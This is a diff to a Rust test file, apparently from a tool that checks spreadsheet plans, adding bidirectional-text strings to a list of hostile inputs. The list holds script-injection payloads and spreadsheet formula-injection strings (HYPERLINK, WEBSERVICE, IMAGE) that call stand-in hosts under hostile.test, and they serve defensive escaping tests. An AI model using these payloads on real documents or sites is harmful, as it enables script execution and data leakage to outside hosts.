@@ -7,7 +7,7 @@ use plancheck_tests::write::{add_member, escaped, member, replace_member, xlsx};
 use plancheck_tests::{layout, plans};
 
 /// What is put wherever a plan has room for words.
-const TEXTS: [&str; 19] = [
+const TEXTS: [&str; 21] = [
     "<script>ran=1;fetch('http://script.hostile.test/')</script>",
     "</script><script src=//source.hostile.test/x.js></script>",
     "<img src=x onerror=\"ran=1\">",
@@ -27,6 +27,9 @@ const TEXTS: [&str; 19] = [
     "+HYPERLINK(\"http://plus.hostile.test/\")",
     "-2+3+WEBSERVICE(\"http://minus.hostile.test/\")",
     "@IMAGE(\"http://at.hostile.test/pixel.png\")",
+    // Orders to turn round what stands behind them, and letters that do so by themselves.
+    "\u{202e}\u{2067}override.hostile.test\u{202e}",
+    "hebrew.hostile.test \u{5e9}\u{5dc}\u{5d5}\u{5dd}",
 ];
 
 /// Formulas that reach out when a spreadsheet works them out.
